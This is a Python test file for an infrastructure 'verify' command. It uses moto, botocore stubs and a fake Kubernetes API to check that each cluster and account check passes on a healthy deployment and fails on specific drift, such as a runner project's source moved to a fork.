"""Each check of `higgsfield verify` passing and failing: the account against moto (EKS, Auto Scaling,
CloudWatch Logs) and a botocore Stubber where moto has no coverage (EC2 capacity reservations,
answered with AWS's wire codes), the cluster against the fake API server over HTTP through the
maintained `kubernetes` client and a real kubeconfig file (tests/fake_kube_api.py: Status objects
with the real reasons and codes, 403 RBAC refusals, dry runs that store nothing).

The state seeded is a healthy prod cluster as docs/day-one-journey.md describes it after the first
`pulumi up`; each failing test breaks one thing of it."""

from __future__ import annotations

import contextlib
import copy
import dataclasses
import datetime
import functools
import json
import types
import urllib.parse
from typing import Any
from unittest import mock

import boto3
import moto.ec2.models.instance_types
import moto.ec2.models.instances
import moto.eks.utils
import moto.kms.models
import moto.kms.utils
import pytest
import yaml
from botocore.stub import Stubber
from moto import mock_aws
from moto.core import DEFAULT_ACCOUNT_ID
from moto.core.base_backend import BackendDict, BaseBackend

from components.cluster import CONTROL_PLANE_LOG_TYPES
from components.karpenter import queue_policy
from components.teams import cpu_only_quota, cpu_service_quota
from components.tenancy import team_group
from infra.cli import verify
from infra.cli.verify import checks, connect
from infra.core import names
from infra.offline.evaluate import COMPUTED
from tests.aws_errors import add_wire_error
from tests.conftest import plan_of
from tests.fake_kube_api import FakeKubernetesApi

STACK, REGION = "prod", "us-east-2"
# the role the seeded node groups are on (moto's account), named as Pulumi names the plan's (namePrefix
# higgsfield-prod-)
NODE_ROLE = "arn:aws:iam::123456789012:role/higgsfield-prod-0a1b2c3d4e5f6a7"
NOW = datetime.datetime(2026, 12, 5, 9, 0, tzinfo=datetime.UTC)
CLUSTER = names.cluster_name(STACK)


# The status the autoscaler writes (YAML, clusterstate/api/types.go's ClusterAutoscalerStatus), trimmed.
AUTOSCALER_STATUS_YAML = """time: 2026-12-05 08:59:50.1 +0000 UTC
autoscalerStatus: Running
clusterWide:
  health:
    status: Healthy
    nodeCounts:
      registered: {total: 3, ready: 3}
"""


def _time(at: datetime.datetime) -> str:
    """A Time as the API server writes it (a CronJob's lastSuccessfulTime): whole seconds."""
    return at.strftime("%Y-%m-%dT%H:%M:%SZ")


def _micro(at: datetime.datetime) -> str:
    """A MicroTime as the API server writes it (Lease renewTime)."""
    return at.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def _api_taints(taints: list[dict]) -> list[dict]:
    return [{"key": t["key"], "value": t.get("value"), "effect": t["effect"]} for t in taints]


@pytest.fixture(scope="module")
def plan():
    return plan_of(STACK)


@functools.cache
def _one_session() -> boto3.Session:
    return boto3.Session()


@functools.cache
def _unused_rsa_key() -> moto.kms.utils.AbstractPrivateKey:
    return moto.kms.utils.generate_private_key("RSA_2048")


def _kms_private_key(key_spec: str) -> moto.kms.utils.AbstractPrivateKey:
    """moto gives every KMS key an RSA private key, a symmetric one too (getmoto/moto:moto/kms/models.py@5.2.6
    Key.__init__, `generate_private_key(self.key_spec)`, RSA_2048 for SYMMETRIC_DEFAULT: about 45 ms each),
    and reads it only to sign, verify and answer GetPublicKey (models.py@5.2.6 sign, verify, get_public_key),
    which AWS does only with an asymmetric key (boto/botocore:botocore/data/kms/2014-11-01/service-2.json@1.44.18
    Sign: "identify an asymmetric KMS key with a KeyUsage value of SIGN_VERIFY"; GetPublicKey: "Returns the public
    key of an asymmetric KMS key"). The symmetric keys of a process share one; an asymmetric key gets its own."""
    if key_spec == "SYMMETRIC_DEFAULT":
        return _unused_rsa_key()
    return moto.kms.utils.generate_private_key(key_spec)


class _InstanceTypeCheck(moto.ec2.models.instance_types.InstanceTypeOfferingBackend):
    """moto's offering filter, with its answer to RunInstances' one question straight: is the instance type offered
    in the region. run_instances asks it of every one of the region's 6,000-odd offerings, each through the generic
    filter (a closure and a generator per offering: about 8 ms a launch, two launches an account), with
    `{"instance-type": TYPE}` (getmoto/moto:moto/ec2/models/instances.py@5.2.6 run_instances); the generic filter
    answers `offering.get("InstanceType") in values` for that key (moto/ec2/models/instance_types.py@5.2.6
    matches_filters), as this does."""

    def matches_filters(self, offering: dict, filters: dict, location_type: str) -> bool:
        if filters.keys() == {"instance-type"}:
            return offering.get("InstanceType") in filters["instance-type"]
        return super().matches_filters(offering, filters, location_type)


@contextlib.contextmanager
def _cheaper_moto():
    """moto as it answers, less three costs of its own: the RSA key of a symmetric KMS key (_kms_private_key), a
    new boto3 Session at every EKS role check only to list the partitions botocore knows
    (getmoto/moto:moto/eks/utils.py@5.2.6 validate_role_arn, `Session().get_available_partitions()`: the same
    answer from one Session), and RunInstances' instance-type check (_InstanceTypeCheck). mock.patch, not
    monkeypatch: these patch no code of the program, so the evaluations stay answered once (tests/conftest.py
    Memo)."""
    with contextlib.ExitStack() as patches:
        # Only where the installed moto has them (pyproject asks moto>=5.1): another moto is slower, not wrong.
        for module, name, cheaper in (
            (moto.kms.models, "generate_private_key", _kms_private_key),
            (moto.eks.utils, "Session", _one_session),
            (moto.ec2.models.instances, "InstanceTypeOfferingBackend", _InstanceTypeCheck),
        ):
            if hasattr(module, name):
                patches.enter_context(mock.patch.object(module, name, cheaper))
        yield


@functools.cache
def _seeding_clients() -> types.SimpleNamespace:
    """The clients deployed_account seeds moto through, made once a process: about 9 ms each (botocore builds a
    client's class and arguments anew each time), six an account. A client answers from the backends of whichever
    mock is active when it is called: moto hooks every client's before-send event and reads its stubber's
    `enabled` per request, and each mock's start resets the backends (getmoto/moto:moto/core/models.py@5.2.6
    BUILTIN_HANDLERS.append, _enable_patching; moto/core/botocore_stubber.py@5.2.6 BotocoreStubber.__call__). The
    keys are those mock_aws puts in the environment (models.py@5.2.6 _fake_creds), which the clients made inside a
    mock read; moto answers account 123456789012 for any key it did not issue (moto/iam/models.py@5.2.6
    get_account_id_from). The clients the tests and the checks use are made per test from the account's Session."""
    session = boto3.Session(region_name=REGION, aws_access_key_id="FOOBARKEY", aws_secret_access_key="FOOBARSECRET")
    return types.SimpleNamespace(
        **{name: session.client(name) for name in ("eks", "autoscaling", "ec2", "logs", "kms", "s3", "ecr")}
    )


@contextlib.contextmanager
def deployed_account(plan, monkeypatch, aws_managed_policies: bool = False):
    """moto holding the stack's cluster, node groups (Pulumi-named NAME-xxxxxxx), their Auto Scaling
    groups and the Capacity Block's scheduled actions, as the first `pulumi up` leaves them. Seeded once a process
    for each plan (_seed), then restored into each test's own mock (_restore)."""
    for var, value in (("AWS_ACCESS_KEY_ID", "testing"), ("AWS_SECRET_ACCESS_KEY", "testing")):
        monkeypatch.setenv(var, value)
    monkeypatch.delenv("AWS_PROFILE", raising=False)
    # AWS's managed policies, as moto's snapshot of their documents holds them (a second to load: asked for)
    with _cheaper_moto(), mock_aws(config={"iam": {"load_aws_managed_policies": aws_managed_policies}}):
        key = (id(plan), aws_managed_policies)
        seeded = _seeded.get(key)
        if seeded is None or seeded[0] is not plan:
            _seed(plan)
            seeded = _seeded[key] = (plan, *_account_state())
        _restore(*seeded[1:])
        _seed_registry(plan)
        try:
            yield boto3.Session(region_name=REGION)
        finally:
            _discard(seeded[1])


# The seeded accounts of this process, by plan (held, so that its id names it) and managed policies: each the
# services' backends and a deep copy of what they hold for moto's account.
_seeded: dict[tuple[int, bool], tuple] = {}


def _account_state() -> tuple[list, list]:
    """What every moto service used so far holds for moto's account, copied: one deepcopy of them all, so that a
    backend's reference to another (Auto Scaling's to EC2's) stays a reference into the copy. moto keeps each
    service's backends in a BackendDict, account -> region -> backend, made on first use and listed in
    BackendDict._instances; a mock's start clears them all (getmoto/moto:moto/core/base_backend.py@5.2.6
    BackendDict.reset, _create_account_specific_backend)."""
    services = list(BackendDict._instances)
    return services, copy.deepcopy([service.get(DEFAULT_ACCOUNT_ID) for service in services])


def _restore(services: list, state: list) -> None:
    """The copied account put back in the mock just started, itself copied again (a test changes its account): 3 ms
    where seeding it takes about 60 (an account's thirty-odd requests through botocore and moto)."""
    for service, account in zip(services, copy.deepcopy(state), strict=True):
        if account is not None:
            dict.__setitem__(service, DEFAULT_ACCOUNT_ID, account)
            if service not in BackendDict._instances:
                BackendDict._instances.append(service)


def _discard(services: list) -> None:
    """The test's account taken out of the mock before it stops, where that is all the stop would do: moto's stop
    resets every backend it holds (BaseBackend.reset runs `__init__` again: EC2's default VPC and subnets, Auto
    Scaling's EC2) and then clears them all (getmoto/moto:moto/core/base_backend.py@5.2.6 BackendDict.reset), about
    3 ms an account. A backend whose reset does more (S3's disposes of its objects' buffers) is left to moto."""
    for service in services:
        account = dict.get(service, DEFAULT_ACCOUNT_ID)
        if account is not None and all(type(backend).reset is BaseBackend.reset for backend in account.values()):
            dict.pop(service, DEFAULT_ACCOUNT_ID)


def _seed(plan) -> None:
    """The account as the first `pulumi up` leaves it, made through the APIs in the mock started."""
    seeding = _seeding_clients()
    eks, autoscaling = seeding.eks, seeding.autoscaling
    role = NODE_ROLE
    eks.create_cluster(
        name=CLUSTER,
        version=plan.config.kubernetes_version,
        roleArn=role,
        resourcesVpcConfig={"subnetIds": []},
        logging={"clusterLogging": [{"types": list(CONTROL_PLANE_LOG_TYPES), "enabled": True}]},
    )
    # the program's API authentication (components/cluster.py), which moto's CreateCluster does not keep
    _moto_cluster().access_config = {"authenticationMode": "API"}
    seeding.ec2.create_launch_template(LaunchTemplateName="gpu-nodes", LaunchTemplateData={"ImageId": "ami-12c6146b"})
    templates = {t.parent: _launch_template(seeding.ec2, t) for t in plan.of_type(checks.LAUNCH_TEMPLATE)}
    for group in plan.of_type(checks.NODE_GROUP):
        _node_group(eks, autoscaling, plan, group, role, templates.get(group.parent))
    logs = seeding.logs
    key = seeding.kms.create_key()["KeyMetadata"]["Arn"]
    for group in plan.of_type(checks.LOG_GROUP):
        logs.create_log_group(logGroupName=group.inputs["name"], kmsKeyId=key)
        logs.put_retention_policy(logGroupName=group.inputs["name"], retentionInDays=group.inputs["retentionInDays"])
    s3 = seeding.s3
    for bucket in {r.inputs["bucket"] for r in plan.of_type(checks.BUCKET_VERSIONING)}:  # the linked buckets
        s3.create_bucket(Bucket=bucket, CreateBucketConfiguration={"LocationConstraint": REGION})
        s3.put_bucket_versioning(Bucket=bucket, VersioningConfiguration={"Status": "Enabled"})


def _seed_registry(plan) -> None:
    """The training image's repository and its lifecycle policy as `pulumi up` makes them, made in each test's own
    mock rather than copied (_account_state): moto's ECR backend holds a lock, which deepcopy cannot copy
    (getmoto/moto:moto/ecr/models.py@5.2.6 ECRBackend.registry_scanning_configuration_update_lock)."""
    ecr = _seeding_clients().ecr
    for repository in plan.of_type(checks.REPOSITORY):
        make_repository(ecr, repository.inputs)
    for lifecycle in plan.of_type(checks.ECR_LIFECYCLE_POLICY):
        ecr.put_lifecycle_policy(
            repositoryName=lifecycle.inputs["repository"], lifecyclePolicyText=lifecycle.inputs["policy"]
        )


def make_repository(ecr, inputs: dict, **changes) -> None:
    """An ECR repository made as pulumi-aws's CreateRepository makes the plan's (`inputs`); `changes` replace its
    arguments."""
    ecr.create_repository(
        **{
            "repositoryName": inputs["name"],
            "imageTagMutability": inputs["imageTagMutability"],
            "imageScanningConfiguration": inputs["imageScanningConfiguration"],
            "encryptionConfiguration": inputs["encryptionConfigurations"][0],
            **changes,
        }
    )


def _moto_cluster():
    """The stack's cluster as moto keeps it: what its API cannot set is set here."""
    from moto.backends import get_backend

    return get_backend("eks")["123456789012"][REGION].clusters[CLUSTER]


def _launch_template(ec2, template) -> str:
    """The planned launch template as `pulumi up` makes it: the plan's user data and metadata options (IMDSv2 alone,
    hop limit 1). Its ID."""
    options = template.inputs.get("metadataOptions") or {}
    data = {"MetadataOptions": {k[0].upper() + k[1:]: v for k, v in options.items()}}
    if template.inputs.get("userData"):
        data["UserData"] = template.inputs["userData"]
    made = ec2.create_launch_template(LaunchTemplateName=f"{template.name}-1a2b3c4", LaunchTemplateData=data)
    return made["LaunchTemplate"]["LaunchTemplateId"]


def _node_group(eks, autoscaling, plan, group, role: str, template: str | None = None) -> None:
    cfg = group.inputs["scalingConfig"]
    made = eks.create_nodegroup(
        clusterName=CLUSTER,
        nodegroupName=f"{group.name}-1a2b3c4",
        nodeRole=role,
        subnets=["subnet-1"],
        scalingConfig=cfg,
        taints=_api_taints(group.inputs.get("taints") or []),
        **({"launchTemplate": {"id": template, "version": "1"}} if template else {}),
    )["nodegroup"]
    # moto gives a group no SSH key asked an `eksKeypair` one (moto/eks/models.py@5.2.6 DEFAULT_REMOTE_ACCESS); EKS
    # leaves remoteAccess out (Nodegroup, boto/botocore:botocore/data/eks/2017-11-01/service-2.json@1.44.18)
    _moto_cluster().nodegroups[made["nodegroupName"]].remote_access = None
    asg = made["resources"]["autoScalingGroups"][0]["name"]
    autoscaling.create_auto_scaling_group(
        AutoScalingGroupName=asg,
        LaunchTemplate={"LaunchTemplateName": "gpu-nodes"},
        MinSize=cfg["minSize"],
        MaxSize=cfg["maxSize"],
        AvailabilityZones=[f"{REGION}a"],
    )
    for action in plan.of_type(checks.SCHEDULE):
        if action.parent == group.parent:
            a = action.inputs
            autoscaling.put_scheduled_update_group_action(
                AutoScalingGroupName=asg,
                ScheduledActionName=a["scheduledActionName"],
                MinSize=a["minSize"],
                MaxSize=a["maxSize"],
                DesiredCapacity=a["desiredCapacity"],
                **({"StartTime": datetime.datetime.fromisoformat(a["startTime"])} if "startTime" in a else {}),
                **({"Recurrence": a["recurrence"]} if "recurrence" in a else {}),
            )


@pytest.fixture
def aws(plan, monkeypatch):
    with deployed_account(plan, monkeypatch) as session:
        yield session


def _vap_denial(team: str, obj: dict, message: str) -> tuple[int, str, str]:
    """What the API server answers a denied request (staging/src/k8s.io/apiserver/pkg/admission/plugin/
    policy/validating/dispatcher.go: "ValidatingAdmissionPolicy '%s' with binding '%s' denied request: %s";
    our policies set reason Forbidden, components/tenancy.py)."""
    policy = f"higgsfield-team-{team}"
    return (
        403,
        "Forbidden",
        f'{obj["kind"].lower()}s "{obj["metadata"]["name"]}" is forbidden: ValidatingAdmissionPolicy '
        f"'{policy}' with binding '{policy}' denied request: {message}",
    )


# The kinds the verify checks create in team namespaces that the team policy matches (its resourceRules).
JUDGED = ("PodGroup", "Job", "DaemonSet", *names.KUBEFLOW_JOB_KINDS)


def team_admission(cfg):
    """Each team's own ValidatingAdmissionPolicy on what is created in its namespace, its CEL evaluated
    with cel-expr-python (tests/security/test_tenancy.py verdicts); a denial answers on the wire."""
    from components import tenancy
    from components.teams import rules_of
    from tests.security.test_tenancy import verdicts

    policies = {
        t.name: tenancy.admission_policy(rules_of(t, cfg.scheduler.priority_classes, pools=cfg.gpu_pools))
        for t in cfg.scheduler.teams
    }

    def admit(verb, obj, old):
        namespace = obj.get("metadata", {}).get("namespace")
        if verb != "CREATE" or namespace not in policies or obj.get("kind") not in JUDGED:
            return None
        denied = next((m for m, ok in verdicts(policies[namespace], obj, user="verifier") if not ok), None)
        return denied and _vap_denial(namespace, obj, denied)

    return admit


def seed(fake: FakeKubernetesApi, plan, now: datetime.datetime = NOW) -> None:
    """A healthy cluster after the first `pulumi up`, GPU pools at zero; its leaders renewed just before `now`."""
    cfg = plan.config
    lease = {"leaseDurationSeconds": 15, "renewTime": _micro(now - datetime.timedelta(seconds=3))}
    for namespace, name in [
        ("kubeflow", "1ca428e5.training-operator.kubeflow.org"),
        ("kube-system", "cluster-autoscaler"),
        ("volcano-system", "vc-scheduler"),
        ("volcano-system", "vc-controller-manager"),
    ]:
        fake.put(
            {
                "apiVersion": "coordination.k8s.io/v1",
                "kind": "Lease",
                "metadata": {"name": name, "namespace": namespace},
                "spec": {"holderIdentity": f"{name}-7d9f_1234", **lease},
            }
        )
    fake.put(
        {
            "apiVersion": "v1",
            "kind": "ConfigMap",
            "metadata": {"name": "cluster-autoscaler-status", "namespace": "kube-system"},
            "data": {"status": AUTOSCALER_STATUS_YAML},
        }
    )
    fake.put(
        {
            "apiVersion": "admissionregistration.k8s.io/v1",
            "kind": "MutatingWebhookConfiguration",
            "metadata": {"name": checks.PODGROUP_WEBHOOK},
        }
    )
    for planned in plan.of_type(checks.CRON_JOB):
        succeeded = _time(now - datetime.timedelta(seconds=50))
        fake.put({**planned.inputs, "status": {"lastScheduleTime": succeeded, "lastSuccessfulTime": succeeded}})
    queue = {"apiVersion": "scheduling.volcano.sh/v1beta1", "kind": "Queue"}
    fake.put({**queue, "metadata": {"name": "default"}, "spec": {"reclaimable": False}, "status": {"state": "Open"}})
    for team in cfg.scheduler.teams:
        fake.put(
            {**queue, "metadata": {"name": team.queue}, "spec": {"reclaimable": False}, "status": {"state": "Open"}}
        )
        fake.put(
            {
                "apiVersion": "v1",
                "kind": "Namespace",
                "metadata": {"name": team.name, "annotations": {names.QUEUE_ANNOTATION: team.queue}},
            }
        )
        fake.put(
            {
                "apiVersion": "v1",
                "kind": "ServiceAccount",
                "metadata": {
                    "name": "default",
                    "namespace": team.name,
                    "managedFields": [
                        {"manager": "kube-controller-manager"},
                        {"manager": "pulumi-kubernetes-4f2a9c1e"},
                    ],
                },
                "automountServiceAccountToken": False,
            }
        )
        # no pod without GPUs yet: the quota controller's counts are nought (status.hard mirrors spec.hard)
        for quota in (cpu_only_quota(team), cpu_service_quota(team)):
            nought = {"requests.cpu": "0", "requests.memory": "0", "pods": "0"}
            fake.put({**quota, "status": {"hard": quota["spec"]["hard"], "used": nought}})
    for vap in plan.of_type(checks.VAP):
        fake.put(
            {
                "apiVersion": "admissionregistration.k8s.io/v1",
                "kind": "ValidatingAdmissionPolicy",
                "metadata": {"name": vap.inputs["metadata"]["name"]},
                "status": {"observedGeneration": 1, "typeChecking": {}},
            }
        )
    for binding in plan.of_type(checks.VAP_BINDING):
        # as the API server stores it: a matchResources defaulted (SetDefaults_MatchResources)
        spec = copy.deepcopy(binding.inputs["spec"])
        if "matchResources" in spec:
            spec["matchResources"] = {**checks.MATCH_RESOURCES_DEFAULTS, **spec["matchResources"]}
        fake.put({**binding.inputs, "metadata": {"name": binding.inputs["metadata"]["name"]}, "spec": spec})
    # the program's RBAC, as `pulumi up` applied it (the Training Operator's own, its kustomize Directory's, is no
    # resource of the plan: none binds the preview group)
    for kind in ("ClusterRole", "ClusterRoleBinding", "Role", "RoleBinding"):
        for rbac in plan.of_type(f"kubernetes:rbac.authorization.k8s.io/v1:{kind}"):
            fake.put(dict(rbac.inputs))
    for ds in plan.of_type(checks.DAEMON_SET):
        meta = ds.inputs["metadata"]
        fake.put(
            {
                "apiVersion": "apps/v1",
                "kind": "DaemonSet",
                "metadata": {"name": meta["name"], "namespace": meta["namespace"]},
                "status": {"desiredNumberScheduled": 0, "numberReady": 0},
            }
        )


def kubeconfig(path, server: str) -> str:
    """A kubeconfig as `aws eks update-kubeconfig` writes one (a token stands in for its exec plugin)."""
    path.write_text(
        yaml.safe_dump(
            {
                "apiVersion": "v1",
                "kind": "Config",
                "clusters": [{"name": CLUSTER, "cluster": {"server": server}}],
                "users": [{"name": "me", "user": {"token": "t"}}],
                "contexts": [{"name": CLUSTER, "context": {"cluster": CLUSTER, "user": "me"}}],
                "current-context": CLUSTER,
            }
        )
    )
    return str(path)


@pytest.fixture
def cluster(plan, tmp_path, monkeypatch):
    fake = FakeKubernetesApi(admit=team_admission(plan.config))
    seed(fake, plan)
    monkeypatch.setenv("KUBECONFIG", kubeconfig(tmp_path / "kubeconfig", fake.url))
    yield fake
    fake.close()


def kube_client() -> connect.Kube:
    """The command's client of $KUBECONFIG, its proxy decided once from this environment (none here): the client
    decides it the same way at every request otherwise (its kubeconfig hook sets `host` again, and the host's setter
    reads every proxy variable), a quarter of a SubjectAccessReview's time in a test."""
    kube = connect.kube_client(None)
    configuration = kube.api_client.configuration
    configuration.proxy = configuration.proxy
    return kube


@pytest.fixture
def ctx(plan, cluster):
    return connect.Context(STACK, plan, None, kube_client(), now=lambda: NOW)


@pytest.fixture
def aws_ctx(plan, aws):
    return connect.Context(STACK, plan, aws, None, now=lambda: NOW)


def one(spec_id: str, ctx) -> verify.Outcome:
    """Run one check as the command does (its timeout, its errors described)."""
    (spec,) = [dataclasses.replace(s, after=()) for s in checks.specs() if s.id == spec_id]
    return verify.run([spec], ctx, describe_error=connect.describe_error)[0].outcome


def stack_pinning(plan, **changes):
    """The plan of a stack whose settings differ (`kubernetes_version`, `stack`) from what was deployed."""
    return types.SimpleNamespace(config=plan.config.model_copy(update=changes), of_type=plan.of_type)


# --- the account -----------------------------------------------------------------------------------


def _stubbed(aws_ctx, service: str, region: str | None = None) -> Stubber:
    """The check's client of `service` (in `region`, else the stack's) answered by an active Stubber, with AWS's
    wire shapes, where moto has no coverage; add the answers to the returned stub."""
    client = boto3.client(service, region_name=region or REGION, aws_access_key_id="x", aws_secret_access_key="x")
    stub = Stubber(client)
    stub.activate()
    aws_ctx.clients[service if region is None else f"{service}@{region}"] = client
    return stub


@pytest.fixture
def bootstrapped(aws_ctx, aws, plan):
    """What `higgsfield bootstrap` has the administrator make: the versioned state bucket, the secrets
    key (moto), the GitHub connection (a Stubber: moto has no CodeConnections), AVAILABLE by default."""
    delivery = plan.config.delivery
    s3 = aws.client("s3")
    s3.create_bucket(Bucket=delivery.state_bucket, CreateBucketConfiguration={"LocationConstraint": REGION})
    s3.put_bucket_versioning(Bucket=delivery.state_bucket, VersioningConfiguration={"Status": "Enabled"})
    key = aws.client("kms").create_key()["KeyMetadata"]["Arn"]
    aws_ctx.plan = stack_pinning(plan, delivery=delivery.model_copy(update={"state_key_arn": key}))
    stub = _stubbed(aws_ctx, "codeconnections", REGION)

    def connection(status: str) -> None:
        arn = delivery.runner.connection_arn
        stub.add_response(
            "get_connection",
            {"Connection": {"ConnectionName": "github", "ConnectionArn": arn, "ConnectionStatus": status}},
            {"ConnectionArn": arn},
        )

    return connection


def test_a_bootstrapped_account_passes(aws_ctx, bootstrapped):
    bootstrapped("AVAILABLE")
    outcome = one("aws.bootstrap", aws_ctx)
    assert outcome.status == "PASS" and "versioning Enabled; secrets key: Enabled; GitHub connection: AVAILABLE" in (
        outcome.evidence
    )


def test_a_github_connection_never_completed_in_the_console_fails(aws_ctx, bootstrapped):
    bootstrapped("PENDING")
    outcome = one("aws.bootstrap", aws_ctx)
    assert outcome.status == "FAIL" and "GitHub connection: PENDING" in outcome.evidence
    assert "Update pending connection" in outcome.fix


def test_a_state_bucket_without_versioning_fails(aws_ctx, aws, bootstrapped):
    bootstrapped("AVAILABLE")
    bucket = plan_of(STACK).config.delivery.state_bucket
    aws.client("s3").put_bucket_versioning(Bucket=bucket, VersioningConfiguration={"Status": "Suspended"})
    outcome = one("aws.bootstrap", aws_ctx)
    assert outcome.status == "FAIL" and f"state bucket {bucket}: versioning Suspended" in outcome.evidence


@pytest.fixture
def managed(aws_ctx):
    """IAM answered by a Stubber (moto loads no AWS managed policy by default): each policy's default version, its
    document as botocore decodes it, one statement in the services given (`acts_in`, by policy name)."""
    from components.delivery import MANAGED_POLICIES

    stub = _stubbed(aws_ctx, "iam")

    def answer(acts_in: dict[str, list[str]] | None = None) -> None:
        for name in MANAGED_POLICIES:
            arn = f"arn:aws:iam::aws:policy/{name}"
            services = (acts_in or {}).get(name, ["ec2"])
            document = {
                "Version": "2012-10-17",
                "Statement": [{"Effect": "Allow", "Action": [f"{s}:Describe*" for s in services], "Resource": "*"}],
            }
            stub.add_response("get_policy", {"Policy": {"Arn": arn, "DefaultVersionId": "v7"}}, {"PolicyArn": arn})
            stub.add_response(
                "get_policy_version",
                {"PolicyVersion": {"Document": urllib.parse.quote(json.dumps(document)), "VersionId": "v7"}},
                {"PolicyArn": arn, "VersionId": "v7"},
            )

    return answer


def test_managed_policies_within_the_boundarys_services_pass(aws_ctx, managed):
    managed()
    outcome = one("aws.managed-policies", aws_ctx)
    assert outcome.status == "PASS" and outcome.evidence == "6 AWS managed policies act only in the boundary's services"


def test_a_managed_policy_aws_extended_to_another_service_fails_naming_it(aws_ctx, managed):
    managed({"AmazonEKS_CNI_Policy": ["ec2", "sqs"]})
    outcome = one("aws.managed-policies", aws_ctx)
    assert outcome.status == "FAIL" and outcome.evidence.startswith("AmazonEKS_CNI_Policy (v7) acts in sqs: outside")


@pytest.fixture
def runners(aws_ctx, plan):
    """CodeBuild answered by a Stubber (moto keeps no webhook): give BatchGetProjects' projects."""
    stub = _stubbed(aws_ctx, "codebuild")
    # as CodeBuild answers them: each group the list of its filters
    hooks = {
        r.inputs["projectName"]: [g["filters"] for g in r.inputs["filterGroups"]] for r in plan.of_type(checks.WEBHOOK)
    }

    def answer(edit=lambda name, groups: groups) -> None:
        projects = [{"name": n, "webhook": {"filterGroups": edit(n, copy.deepcopy(g))}} for n, g in hooks.items()]
        stub.add_response("batch_get_projects", {"projects": projects}, {"names": sorted(hooks)})

    return answer


def test_runner_webhooks_with_the_planned_filters_pass(aws_ctx, runners):
    runners()
    outcome = one("aws.runner-webhooks", aws_ctx)
    assert outcome.status == "PASS" and outcome.evidence == "2 runner webhook(s) with the planned filters"


def test_a_runner_webhook_whose_actor_filter_was_dropped_fails_naming_its_project(aws_ctx, runners):
    def drop_actors(name: str, groups: list) -> list:
        if name.endswith("-deploy-runner"):
            groups[0] = [f for f in groups[0] if f["type"] != "ACTOR_ACCOUNT_ID"]
        return groups

    runners(drop_actors)
    outcome = one("aws.runner-webhooks", aws_ctx)
    assert outcome.status == "FAIL"
    assert outcome.evidence == "higgsfield-prod-deploy-runner: its webhook's filters differ from the plan's"


@pytest.fixture
def runner_projects(aws_ctx, aws, plan):
    """The runner projects as the first `pulumi up` leaves them: the cluster in its VPC's private subnets, each
    project's security group tagged with its name (moto), and CodeBuild answered by a Stubber in BatchGetProjects'
    shape (botocore's codebuild service model, Project): give `edit(name, project)` to change one."""
    ec2 = aws.client("ec2")
    vpc = ec2.create_vpc(CidrBlock="10.0.0.0/16")["Vpc"]["VpcId"]
    subnets = [ec2.create_subnet(VpcId=vpc, CidrBlock=f"10.0.{i}.0/24")["Subnet"]["SubnetId"] for i in range(3)]
    _moto_cluster().resources_vpc_config = {"vpcId": vpc, "subnetIds": subnets}
    stub = _stubbed(aws_ctx, "codebuild")
    planned = {r.inputs["name"]: r.inputs for r in plan.of_type(checks.PROJECT)}
    groups = {
        name: ec2.create_security_group(
            GroupName=name,
            Description="runner",
            VpcId=vpc,
            TagSpecifications=[{"ResourceType": "security-group", "Tags": [{"Key": "Name", "Value": name}]}],
        )["GroupId"]
        for name in planned
    }
    account = plan.config.delivery.account_id

    def answer(edit=lambda name, project: project) -> None:
        projects = [
            edit(
                name,
                {
                    "name": name,
                    "source": {
                        "type": inputs["source"]["type"],
                        "location": inputs["source"]["location"],
                        "auth": dict(inputs["source"]["auth"]),
                    },
                    "environment": {**inputs["environment"], "environmentVariables": []},
                    "serviceRole": f"arn:aws:iam::{account}:role/{name}",
                    "vpcConfig": {"vpcId": vpc, "subnets": list(subnets), "securityGroupIds": [groups[name]]},
                },
            )
            for name, inputs in planned.items()
        ]
        stub.add_response("batch_get_projects", {"projects": projects}, {"names": sorted(planned)})

    return answer


DEPLOY_RUNNER = names.runner_project(STACK, "deploy")


def _on_deploy_runner(change):
    def edit(name: str, project: dict) -> dict:
        if name == DEPLOY_RUNNER:
            change(project)
        return project

    return edit


def test_runner_projects_as_planned_pass(aws_ctx, runner_projects):
    runner_projects()
    outcome = one("aws.runner-projects", aws_ctx)
    assert outcome.status == "PASS"
    assert outcome.evidence == "2 runner project(s) with the planned source, role, network and image"


def test_a_runner_project_whose_source_moved_to_a_fork_fails_naming_it(aws_ctx, runner_projects):
    fork = "https://github.com/attacker/higgsfield.git"
    runner_projects(_on_deploy_runner(lambda p: p["source"].update(location=fork)))
    outcome = one("aws.runner-projects", aws_ctx)
    assert outcome.status == "FAIL" and outcome.evidence.startswith(f"{DEPLOY_RUNNER}: source.location {fork}, planned")
    assert "UpdateProject" in outcome.fix


def test_a_runner_project_with_another_service_role_fails_naming_it(aws_ctx, runner_projects):
    other = "arn:aws:iam::123456789012:role/higgsfield-prod-deploy"
    runner_projects(_on_deploy_runner(lambda p: p.update(serviceRole=other)))
    outcome = one("aws.runner-projects", aws_ctx)
    assert outcome.status == "FAIL" and outcome.evidence.startswith(f"{DEPLOY_RUNNER}: serviceRole {other}, planned")


def test_a_runner_project_moved_to_other_subnets_fails_naming_them(aws_ctx, aws, runner_projects):
    vpc = _moto_cluster().resources_vpc_config["vpcId"]
    public = aws.client("ec2").create_subnet(VpcId=vpc, CidrBlock="10.0.9.0/24")["Subnet"]["SubnetId"]
    runner_projects(_on_deploy_runner(lambda p: p["vpcConfig"].update(subnets=[public])))
    outcome = one("aws.runner-projects", aws_ctx)
    assert outcome.status == "FAIL" and outcome.evidence.startswith(f"{DEPLOY_RUNNER}: vpcConfig.subnets {public}, ")


def test_a_runner_project_in_another_security_group_fails_naming_it(aws_ctx, runner_projects):
    runner_projects(_on_deploy_runner(lambda p: p["vpcConfig"].update(securityGroupIds=["sg-0cluster"])))
    outcome = one("aws.runner-projects", aws_ctx)
    assert outcome.status == "FAIL"
    assert outcome.evidence.startswith(f"{DEPLOY_RUNNER}: vpcConfig.securityGroupIds sg-0cluster, planned sg-")


def test_a_runner_project_on_another_image_fails_naming_it(aws_ctx, runner_projects):
    image = "123456789012.dkr.ecr.us-east-2.amazonaws.com/runner:latest"
    runner_projects(_on_deploy_runner(lambda p: p["environment"].update(image=image)))
    outcome = one("aws.runner-projects", aws_ctx)
    assert outcome.status == "FAIL" and outcome.evidence.startswith(f"{DEPLOY_RUNNER}: environment.image {image}, ")


def test_a_privileged_runner_project_fails(aws_ctx, runner_projects):
    runner_projects(_on_deploy_runner(lambda p: p["environment"].update(privilegedMode=True)))
    outcome = one("aws.runner-projects", aws_ctx)
    assert outcome.status == "FAIL"
    assert outcome.evidence == f"{DEPLOY_RUNNER}: environment.privilegedMode True, planned False"


def test_a_runner_project_given_environment_variables_fails(aws_ctx, runner_projects):
